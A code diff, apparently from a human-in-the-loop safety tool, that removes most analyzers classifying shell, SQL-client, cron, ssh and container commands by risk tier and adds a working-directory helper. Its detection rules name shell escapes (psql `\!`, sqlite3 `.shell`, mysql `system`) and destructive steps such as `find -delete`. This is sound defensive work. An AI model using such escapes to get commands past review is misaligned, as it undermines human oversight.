-        if mode is not None:
-            for word in words:
-                if word.dynamic:
-                    self.add(Tier.DESTRUCTIVE, f"`{sel.rule.command}` stores code only known at run time{where}")
-                else:
-                    self.script(word.text, depth + 1, f" inside `{sel.rule.command}`{where}")
-            return
-        if any(w.dynamic for w in sel.args):
-            self.add(
-                Tier.DESTRUCTIVE,
-                f"`{sel.rule.command}` runs code only known at run time{where}",
-                consequence="Runs code that is only put together when the command runs; nobody has reviewed it.",
-            )
-            return
-        self.script(" ".join(w.text for w in sel.args), depth + 1, f" inside `{sel.rule.command}`{where}")
-
-    def an_sed(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        scripts = sel.parsed.values("-e") + sel.parsed.values("--expression")
-        if not scripts and sel.parsed.operands and not sel.parsed.values("-f"):
-            scripts = [sel.parsed.operands[0].text]
-        for text in scripts:
-            verdict = snippets.sed_script(text)
-            if verdict.tier > Tier.READ:
-                self.add(verdict.tier, f"{verdict.reason}{where}")
-
-    def an_awk(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        if sel.parsed.values("-f") or sel.parsed.values("--file"):
-            return
-        if sel.parsed.operands:
-            verdict = snippets.awk_program(sel.parsed.operands[0].text)
-            if verdict.tier > Tier.READ:
-                self.add(verdict.tier, f"{verdict.reason}{where}")
-
-    def an_find(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        args = sel.args
-        starts = [w.text for w in args[: next((i for i, w in enumerate(args) if w.text[:1] in "-(!"), len(args))]]
-        i = 0
-        while i < len(args):
-            word = args[i].text
-            if word in ("-exec", "-execdir", "-ok", "-okdir"):
-                end = next((j for j in range(i + 1, len(args)) if args[j].text in (";", "+")), len(args))
-                inner = [w for w in args[i + 1 : end]]
-                if inner:
-                    self.argv(inner, SimpleCommand(argv=inner), Script(), depth, f" run by `find {word}`{where}")
-                i = end + 1
-                continue
-            if word == "-delete":
-                targets = tuple(Target("path", s) for s in starts or ["."])
-                self.add(
-                    Tier.DESTRUCTIVE,
-                    f"`find -delete` deletes every match under {_join(starts or ['.'])}{where}",
-                    targets,
-                )
-            elif word in ("-fprint", "-fprint0", "-fprintf", "-fls") and i + 1 < len(args):
-                path = args[i + 1].text
-                self.add(Tier.WRITE, f"`find {word}` writes {path}{where}", (Target("path", path),), ("files",))
-            i += 1
-
-    def an_exec_option(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        options = set(sel.rule.params.get("rest_options", []))
-        for i, word in enumerate(sel.args):
-            if word.text in options:
-                inner = [w for w in sel.args[i + 1 :] if w.text != ";"]
-                if inner:
-                    self.argv(
-                        inner,
-                        SimpleCommand(argv=inner),
-                        Script(),
-                        depth,
-                        f" run by `{sel.rule.command} {word.text}`{where}",
-                    )
-                return
-
-    def an_inline_code(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        language = str(sel.rule.params.get("language", ""))
-        options = sel.rule.params.get("code_options", [])
-        codes = [value for name, value in sel.parsed.options if name in options]
-        name = sel.rule.command
-
-        def analyse(code: str, place: str) -> None:
-            verdict = snippets.inline_code(language, code)
-            if verdict.tier > Tier.READ:
-                self.add(verdict.tier, f"{verdict.reason}{place}")
-
-        if codes:
-            for code in codes:
-                analyse(code, where)
-            return
-        if sel.rule.params.get("module_option") in sel.parsed.names:
-            return  # `python -m module`: the rule's cases decide
-        if sel.parsed.operands:
-            script_name = sel.parsed.operands[0].text
-            if script_name != "-":
-                self.add(
-                    Tier.WRITE,
-                    f"`{name}` runs {script_name}, code hitl cannot see{where}",
-                    (Target("path", script_name),),
-                )
-                return
-        self.stdin_code(cmd, depth, where, name, analyse)
-
-    def an_sql(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        from console.core.classify.sql import tier_sql
-
-        client = sel.rule.command
-        dialect = str(sel.rule.params.get("dialect", "postgres"))
-        params = sel.rule.params
-        sql_parts = [value for option, value in sel.parsed.options if option in params.get("sql_options", [])]
-        all_files = [value for option, value in sel.parsed.options if option in params.get("file_options", [])]
-        files = [path for path in all_files if path != "-"]
-        operands = [w.text for w in sel.parsed.operands]
-        database = next((v for o, v in sel.parsed.options if o in params.get("db_options", [])), "")
-        if dialect == "sqlite":
-            database = operands[0] if operands else ""
-            sql_parts += operands[1:]
-        elif not database and operands:
-            database = operands[0]
-        kind: TargetKind = "sqlite" if dialect == "sqlite" else ("mysql" if dialect == "mysql" else "postgres")
-        capture = (_DB_CAPTURE[kind],)
-        place = f"`{client}`" + (f" on {database}" if database else "")
-        for path in files:
-            if path:
-                self.add(
-                    Tier.DESTRUCTIVE,
-                    f"{place} runs the SQL file {path}, which hitl cannot check{where}",
-                    (Target(kind, database),),
-                    capture,
-                    consequence=f"Runs every statement in {path} against {database or 'the database'}.",
-                )
-        if not sql_parts and not files:
-            stdin = cmd.stdin
-            if stdin is None:
-                if "-l" in sel.parsed.names or "--list" in sel.parsed.names:
-                    return
-                self.add(
-                    Tier.WRITE,
-                    f"{place} opens an interactive session where anything can be typed{where}",
-                    (Target(kind, database),),
-                    capture,
-                )
-                return
-            if stdin.text is None:
-                self.add(
-                    Tier.DESTRUCTIVE,
-                    f"{place} runs SQL from {stdin.source}, which hitl cannot check{where}",
-                    (Target(kind, database),),
-                    capture,
-                    consequence=f"Runs whatever SQL {stdin.source} produces.",
-                )
-                return
-            sql_parts = [stdin.text]
-        for text in sql_parts:
-            sql, meta = _split_meta(text, dialect)
-            for tier, reason in meta:
-                self.add(
-                    tier,
-                    f"{place}: {reason}{where}",
-                    (Target(kind, database),) if tier > Tier.READ else (),
-                    capture if tier > Tier.READ and "shell" not in reason else (),
-                )
-            for verdict in tier_sql(sql, dialect):
-                if verdict.tier == Tier.READ:
-                    continue
-                tables = verdict.tables or ("",)
-                targets = tuple(
-                    Target(kind, database if kind == "sqlite" else ".".join(p for p in (database, t) if p))
-                    for t in tables
-                )
-                self.add(verdict.tier, f"{place}: {verdict.reason}{where}", targets, capture)
-
-    def an_schedule(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        """`at`/`batch` and `crontab -`: the job text they read is code that runs later, so it is classified;
-        a crontab replaced by nothing (`crontab /dev/null`, an empty pipe) deletes every job."""
-        if sel.clause is not None:
-            return  # listing, removing or editing: the rule's case says it all
-        name = sel.rule.command
-        cron = sel.rule.params.get("format") == "cron"
-        operands = [w.text for w in sel.parsed.operands]
-        user = next((v for o, v in sel.parsed.options if o == "-u"), "")
-
-        def emptied() -> None:
-            self.add(
-                Tier.DESTRUCTIVE,
-                f"`{name}` replaces the crontab of {user or 'the current user'} with an empty one{where}",
-                (Target("crontab", user),),
-                ("crontab",),
-                "Deletes every scheduled job in the crontab.",
-            )
-
-        if cron and operands and operands[0] != "-":
-            if operands[0] in self.policy.neutral_paths:
-                emptied()
-            return  # a file hitl cannot see: the rule's WRITE (crontab captured) stands
-        if not cron and sel.parsed.values("-f"):
-            return
-        stdin = cmd.stdin
-        if stdin is None or stdin.text is None:
-            return
-        jobs = _cron_jobs(stdin.text) if cron else ([stdin.text] if stdin.text.strip() else [])
-        if cron and not jobs:
-            emptied()
-        for job in jobs:
-            self.script(job, depth + 1, f" in a job scheduled by `{name}`{where}")
-
-    def an_ssh(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        parsed = parse_args(sel.args, sel.rule.value_options, stop_at_operand=True)
-        index = parsed.first_operand_index
-        if index is None:
-            return
-        host = sel.args[index].text
-        remote = sel.args[index + 1 :]
-        if not remote:
-            self.add(Tier.WRITE, f"`ssh {host}` opens an interactive session where anything can be typed{where}")
-            return
-        if any(w.dynamic for w in remote):
-            self.add(Tier.DESTRUCTIVE, f"`ssh {host}` runs a remote command only known at run time{where}")
-            return
-        self.script(" ".join(w.text for w in remote), depth + 1, f" on {host} via ssh{where}")
-
-    def an_remote_argv(self, sel: Selection, cmd: SimpleCommand, script: Script, depth: int, where: str) -> None:
-        """`docker exec CTR cmd...`, `kubectl exec POD -- cmd...`, `docker run IMAGE cmd...`."""
-        args = sel.args
-        params = sel.rule.params
-        if params.get("after_dashes"):
-            split = next((i for i, w in enumerate(args) if w.text == "--"), None)
-            rest = args[split + 1 :] if split is not None else []
-        else:
-            parsed = parse_args(args, sel.rule.value_options, stop_at_operand=True)
-            index = parsed.first_operand_index
-            rest = args[index + int(params.get("skip_operands", 1)) :] if index is not None else []
-        if rest:
-            self.argv(
-                rest, SimpleCommand(argv=rest), Script(), depth, f" inside a container via `{sel.rule.command}`{where}"
-            )
-
-
-def _is_option(name: str, wanted: object) -> bool:
-    return name == wanted or (isinstance(wanted, list) and name in wanted)
-
-
-def _cron_jobs(text: str) -> list[str]:
-    """The commands of a crontab: each line's text after its five time fields (or `@reboot`-style word);
-    blank lines, comments and `NAME=value` settings are skipped."""
-    jobs = []
-    for raw in text.splitlines():
-        line = raw.strip()
-        if not line or line.startswith("#") or _CRON_SETTING.match(line):
-            continue
-        fields = line.split(None, 1 if line.startswith("@") else 5)
-        if len(fields) == (2 if line.startswith("@") else 6):
-            jobs.append(fields[-1])
-    return jobs
+def _moved(sel: Selection, cwd: Place) -> Place:
+    """The working directory after this part of the command's own directory options (`git -C DIR`,
+    `make -C DIR`, `tar -C DIR`): each is relative to the one before."""
+    names = sel.rule.params.get("chdir")
+    if not names:
+        return cwd
+    path, known = cwd
+    for name, value in sel.parsed.options:
+        if name in names:
+            if "$" in value or "`" in value:
+                return value, False
+            path = join(path, value)
+    return path, known
 
 
 def _produces_nothing(cmd: SimpleCommand) -> bool:
@@ -652,95 +657,3 @@ def _produces_nothing(cmd: SimpleCommand) -> bool:
         and all(a in ("-n", "") for a in argv[1:])
         and ("-n" in argv or argv[0] == "printf")
     )
-
-
-def _split_meta(text: str, dialect: str) -> tuple[str, list[tuple[Tier, str]]]:
-    """Separate client meta-commands (psql `\\x`, sqlite3 `.x`, mysql `system`) from SQL."""
-    sql_lines: list[str] = []
-    verdicts: list[tuple[Tier, str]] = []
-    for line in text.split("\n"):
-        stripped = line.strip()
-        if dialect == "postgres" and "\\" in stripped:
-            head, _, meta = stripped.partition("\\")
-            if "'" not in head:
-                sql_lines.append(head)
-                verdicts.append(_psql_meta(meta))
-                continue
-        if dialect == "sqlite" and stripped.startswith("."):
-            verdicts.append(_sqlite_dot(stripped[1:]))
-            continue
-        if dialect == "mysql":
-            word = stripped.split(" ", 1)[0].lower().rstrip(";")
-            if word in ("system", "\\!", "source", "\\.", "tee", "\\t"):
-                tier = Tier.WRITE if word in ("tee", "\\t") else Tier.DESTRUCTIVE
-                what = {
-                    "system": "runs a shell command",
-                    "\\!": "runs a shell command",
-                    "tee": "writes a file",
-                    "\\t": "writes a file",
-                }.get(word, "runs an SQL file hitl cannot check")
-                verdicts.append((tier, f"the client command `{word}` {what}"))
-                continue
-        sql_lines.append(line)
-    return "\n".join(sql_lines), verdicts
-
-
-_PSQL_READ = ("d", "l", "dt", "x", "timing", "conninfo", "q", "?", "h", "list", "echo", "pset", "a", "t", "encoding")
-
-
-def _psql_meta(meta: str) -> tuple[Tier, str]:
-    word = meta.split(None, 1)[0] if meta.split() else ""
-    if word.startswith("!"):
-        return Tier.DESTRUCTIVE, "`\\!` runs a shell command"
-    if word in ("i", "ir", "include", "include_relative"):
-        return Tier.DESTRUCTIVE, f"`\\{word}` runs an SQL file hitl cannot check"
-    if word.startswith(("d", "l")) or word in _PSQL_READ:
-        return Tier.READ, ""
-    if word in ("copy", "o", "out", "w", "write", "g", "gx", "s"):
-        return Tier.WRITE, f"`\\{word}` reads or writes a file"
-    return Tier.WRITE, f"`\\{word}` is a psql command hitl cannot show to be read-only"
-
-
-_SQLITE_READ = frozenset(
-    {
-        "tables",
-        "schema",
-        "indexes",
-        "indices",
-        "headers",
-        "mode",
-        "width",
-        "databases",
-        "show",
-        "help",
-        "timer",
-        "dump",
-        "fullschema",
-        "stats",
-        "eqp",
-        "explain",
-        "changes",
-        "echo",
-        "nullvalue",
-        "separator",
-        "quit",
-        "exit",
-        "print",
-        "dbinfo",
-        "lint",
-        "columns",
-        "box",
-        "table",
-    }
-)
-
-
-def _sqlite_dot(command: str) -> tuple[Tier, str]:
-    word = command.split(None, 1)[0] if command.split() else ""
-    if word in ("shell", "system"):
-        return Tier.DESTRUCTIVE, f"`.{word}` runs a shell command"
-    if word in ("read", "restore", "load"):
-        return Tier.DESTRUCTIVE, f"`.{word}` loads content hitl cannot check"
-    if word in _SQLITE_READ:
-        return Tier.READ, ""
-    return Tier.WRITE, f"`.{word}` is an sqlite3 command that may write"
